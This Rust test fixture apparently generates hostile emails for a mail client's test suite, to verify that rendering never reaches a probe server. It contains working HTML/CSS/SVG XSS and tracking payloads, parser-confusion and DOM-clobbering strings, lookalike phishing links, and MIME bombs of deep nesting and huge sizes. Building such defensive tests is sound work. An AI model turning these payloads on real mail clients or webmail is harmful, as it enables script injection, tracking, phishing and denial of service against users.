//! Hostile messages: what an attacker, or a broken program, may put into a mailbox.

use crate::compose::{File, Mail, text_part};
use crate::newsletters::PICTURE;
use crate::people::MARTIN;

const FROM: &str = "Facturation <facturation@beta.mssante.test>";

/// Each hostile message with the name of what it tries. `probe_url` is the root of a listening server, without a final
/// slash: not one request may reach it.
#[must_use]
pub fn nasty(probe_url: &str) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, html) in pages() {
        out.push((name.to_owned(), page(name, &html.replace("{P}", probe_url))));
    }
    out.push(("cid-loop".into(), cid_loop(probe_url)));
    for (name, html) in volumes() {
        out.push((name.to_owned(), page(name, &html.replace("{P}", probe_url))));
    }
    out.extend(structures(probe_url));
    out
}

fn page(name: &str, html: &str) -> Vec<u8> {
    Mail::new(
        FROM,
        MARTIN,
        format!("Piège : {name}"),
        1_794_902_400,
        format!("piege.{name}@beta.mssante.test"),
    )
    .text(format!("Version texte de « {name} »."))
    .html(html)
    .write()
}

fn pages() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "script",
            "<p>a</p><script>fetch('{P}/script')</script><script src=\"{P}/script.js\"></script>",
        ),
        (
            "event-handlers",
            "<img src=x onerror=\"fetch('{P}/onerror')\"><body onload=\"location='{P}/onload'\"><p onmouseover=\"fetch('{P}/over')\">a</p>",
        ),
        (
            "form",
            "<form action=\"{P}/form\" method=post><input name=a value=b><button>Valider</button></form><form id=f action=\"{P}/auto\"></form><input form=f type=image src=\"{P}/input.png\">",
        ),
        (
            "meta-refresh",
            "<meta http-equiv=\"refresh\" content=\"0;url={P}/refresh\"><p>a</p>",
        ),
        (
            "base",
            "<base href=\"{P}/base/\"><img src=\"relatif.png\"><a href=\"relatif\">a</a>",
        ),
        (
            "css-url",
            "<style>body{background:url({P}/style)} @font-face{font-family:x;src:url('{P}/font')}</style><p style=\"background:url('{P}/inline');font-family:x\">a</p><p style=\"background:u\\72l({P}/escape)\">b</p><p style=\"list-style:url({P}/list);cursor:url({P}/cursor),auto;content:url({P}/content)\">c</p>",
        ),
        (
            "css-import",
            "<style>@import \"{P}/import1\"; @import url({P}/import2);</style><style>@IMPORT/**/'{P}/import3';</style><link rel=stylesheet href=\"{P}/link\"><p>a</p>",
        ),
        (
            "css-expression",
            "<p style=\"width:expression(fetch('{P}/expression'));behavior:url({P}/htc);-moz-binding:url({P}/xbl)\">a</p><p style=\"position:fixed;inset:0;z-index:9999\">recouvre tout</p>",
        ),
        (
            "svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{P}/svg\" width=1 height=1 /><use href=\"{P}/use#a\"/><script>fetch('{P}/svgscript')</script><foreignObject><img src=\"{P}/foreign\"></foreignObject><animate onbegin=\"fetch('{P}/begin')\"/></svg>",
        ),
        (
            "mathml",
            "<math><mtext><table><mglyph><style><!--</style><img src=\"{P}/math\" onerror=\"fetch('{P}/m')\">--></style></mglyph></table></mtext><annotation-xml encoding=\"text/html\"><img src=\"{P}/annotation\"></annotation-xml></math>",
        ),
        (
            "pictures",
            "<img src=\"{P}/a.png\"><img srcset=\"{P}/b.png 1x, {P}/c.png 2x\"><picture><source srcset=\"{P}/d.png\"><img src=\"{P}/e.png\"></picture><input type=image src=\"{P}/f.png\"><table background=\"{P}/g.png\"><tr><td background=\"{P}/h.png\">a</td></tr></table><image src=\"{P}/i.png\">",
        ),
        (
            "media",
            "<video src=\"{P}/v\" poster=\"{P}/poster\" autoplay></video><audio src=\"{P}/a\" autoplay></audio><video><source src=\"{P}/s\"><track src=\"{P}/t\" default></video>",
        ),
        (
            "frames",
            "<iframe src=\"{P}/iframe\"></iframe><iframe srcdoc=\"<img src={P}/srcdoc>\"></iframe><object data=\"{P}/object\"></object><embed src=\"{P}/embed\"><frameset><frame src=\"{P}/frame\"></frameset><applet code=\"{P}/applet\"></applet>",
        ),
        (
            "links",
            "<a href=\"javascript:fetch('{P}/js')\">a</a><a href=\"jav&#x09;ascript:fetch('{P}/js2')\">b</a><a href=\"data:text/html,<script>fetch('{P}/data')</script>\">c</a><a href=\"{P}/ping\" ping=\"{P}/ping2\">d</a><a href=\"file:///etc/passwd\">e</a>",
        ),
        (
            "deceiving-link",
            "<a href=\"{P}/faux\">https://www.ameli.fr/connexion</a> <a href=\"https://xn--ameli-9ua.example/\">ameli</a> <a href=\"https://www.ameli.fr@{P}/\">compte</a>",
        ),
        (
            "prefetch",
            "<link rel=prefetch href=\"{P}/prefetch\"><link rel=preload as=image href=\"{P}/preload\"><link rel=dns-prefetch href=\"{P}\"><link rel=\"shortcut icon\" href=\"{P}/icon\"><p>a</p>",
        ),
        (
            "parser-confusion",
            "<noscript><p title=\"</noscript><img src={P}/noscript onerror=fetch('{P}/n')>\"></noscript><xmp><img src={P}/xmp></xmp><textarea></textarea><img src={P}/textarea><title><img src={P}/title></title><!--><img src={P}/comment>--><![CDATA[<img src={P}/cdata>]]><template><img src={P}/template></template><select><option><img src={P}/select></select>",
        ),
        (
            "dom-clobbering",
            "<p id=location name=document>a</p><form id=backend><input name=invoke></form><a id=__TAURI__ href=\"tauri://localhost\">b</a>",
        ),
        (
            "conditional-comment",
            "<!--[if gte mso 9]><v:image src=\"{P}/vml\"/><![endif]--><p>a</p>",
        ),
    ]
}

fn volumes() -> Vec<(&'static str, String)> {
    let paragraph = "<p style=\"color:red\">Une ligne parmi tant d'autres. <img src=\"{P}/volume.png\"></p>\n";
    vec![
        ("html-20-mb", paragraph.repeat(20 * 1024 * 1024 / paragraph.len())),
        (
            "deep-1000",
            format!("{}au fond{}", "<div>".repeat(1_000), "</div>".repeat(1_000)),
        ),
        ("deep-100000", "<div>".repeat(100_000)),
        ("deep-tables", "<table><tr><td>".repeat(20_000)),
        (
            "formatting",
            format!(
                "{}{}",
                (0..5_000).map(|n| format!("<font size={n}>")).collect::<String>(),
                "<p>a".repeat(20_000)
            ),
        ),
        (
            "attributes",
            format!(
                "<p {}>a</p>",
                (0..50_000).map(|n| format!("a{n}=1 ")).collect::<String>()
            ),
        ),
        (
            "long-attribute",
            format!("<img src=\"{{P}}/{}\">", "x".repeat(2_000_000)),
        ),
        ("open-brackets", "<".repeat(2_000_000)),
        ("entities", "&amp;&#x202e;&lt;".repeat(300_000)),
    ]
}

/// Two HTML parts that show one another, and a picture that is the message itself.
fn cid_loop(probe: &str) -> Vec<u8> {
    let mut picture = File::new("boucle.svg", "image/svg+xml", format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{probe}/cidsvg\"/><image href=\"cid:boucle@x\"/></svg>").into_bytes());
    picture.cid = Some("boucle@x".into());
    let mut inner = File::new(
        "page.html",
        "text/html",
        format!("<img src=\"cid:boucle@x\"><iframe src=\"cid:page@x\"></iframe><img src=\"{probe}/cidpage\">")
            .into_bytes(),
    );
    inner.cid = Some("page@x".into());
    let mut pixel = File::new("point.png", "image/png", PICTURE.to_vec());
    pixel.cid = Some("point@x".into());
    Mail::new(FROM, MARTIN, "Piège : cid-loop", 1_794_902_400, "piege.cid@beta.mssante.test")
        .text("Boucle.")
        .html("<img src=\"cid:boucle@x\"><img src=\"cid:page@x\"><iframe src=\"cid:page@x\"></iframe><img src=\"cid:point@x\"><img src=\"cid:absent@x\"><img src=\"cid:../../secret\">")
        .file(picture)
        .file(inner)
        .file(pixel)
        .write()
}

/// Structures of MIME rather than HTML.
fn structures(probe: &str) -> Vec<(String, Vec<u8>)> {
    let head = |name: &str| {
        Mail::new(
            FROM,
            MARTIN,
            format!("Piège : {name}"),
            1_794_902_400,
            format!("piege.{name}@beta.mssante.test"),
        )
        .header_block()
    };
    let with = |name: &str, body: String| {
        let mut raw = head(name);
        raw.extend(body.into_bytes());
        (name.to_owned(), raw)
    };
    let mut multiparts = String::new();
    for level in 0..1_000 {
        multiparts.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n"
        ));
    }
    multiparts.push_str("Content-Type: text/plain\r\n\r\nau fond\r\n");
    let many = format!(
        "Content-Type: multipart/mixed; boundary=p\r\n\r\n{}--p--\r\n",
        "--p\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\n\r\nx\r\n".repeat(100_000)
    );
    let unclosed = "Content-Type: multipart/mixed; boundary=jamais\r\n\r\n".to_owned()
        + &"Content-Type: multipart/mixed; boundary=non\r\n\r\n".repeat(20_000);
    let recipients = (0..20_000)
        .map(|n| format!("x{n}@beta.mssante.test"))
        .collect::<Vec<_>>()
        .join(",\r\n ");
    let mut crowd = format!("To: {recipients}\r\n").into_bytes();
    crowd.extend(head("20000-recipients"));
    crowd.extend(text_part("text/plain", "Beaucoup de monde."));
    let references = format!("References: {}\r\n", "<a@b.test>\r\n ".repeat(20_000));
    let mut chain = references.into_bytes();
    chain.extend(head("20000-references"));
    chain.extend(text_part("text/plain", "Longue chaîne."));
    let charset = format!(
        "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-fetch('{probe}/utf7')+ADw-/script+AD4-<img src={probe}/utf7img>\r\n"
    );
    let html_file = File::new(
        "facture.html",
        "text/html",
        format!("<script>fetch('{probe}/file')</script><img src={probe}/fileimg>").into_bytes(),
    );
    let attached = Mail::new(
        FROM,
        MARTIN,
        "Piège : html-attachment",
        1_794_902_400,
        "piege.fichier@beta.mssante.test",
    )
    .text("Voir la facture.")
    .file(html_file)
    .write();
    vec![
        with(
            "nested-messages-1000",
            "Content-Type: message/rfc822\r\n\r\n".repeat(1_000),
        ),
        with(
            "nested-messages-100000",
            "Content-Type: message/rfc822\r\n\r\n".repeat(100_000),
        ),
        with(
            "nested-comment",
            "Content-Type: message/(x)rfc822\r\n\r\n".repeat(100_000),
        ),
        with("nested-multiparts-1000", multiparts),
        with("parts-100000", many),
        with("never-closed", unclosed),
        with("utf-7", charset),
        with(
            "long-line",
            format!("Content-Type: text/plain\r\n\r\n{}\r\n", "x".repeat(5_000_000)),
        ),
        with(
            "long-header",
            format!(
                "X-Long: {}\r\nContent-Type: text/plain\r\n\r\na\r\n",
                "y".repeat(3_000_000)
            ),
        ),
        with(
            "many-headers",
            format!("{}Content-Type: text/plain\r\n\r\na\r\n", "X-N: 1\r\n".repeat(200_000)),
        ),
        ("20000-recipients".to_owned(), crowd),
        ("20000-references".to_owned(), chain),
        ("html-attachment".to_owned(), attached),
        ("nul-bytes".to_owned(), {
            let mut raw = head("nul-bytes");
            raw.extend(b"Content-Type: text/plain\r\n\r\na\0b\0c\r\n");
            raw
        }),
        ("empty".to_owned(), Vec::new()),
        ("octets".to_owned(), (0..=255_u8).cycle().take(70_000).collect()),
    ]
}
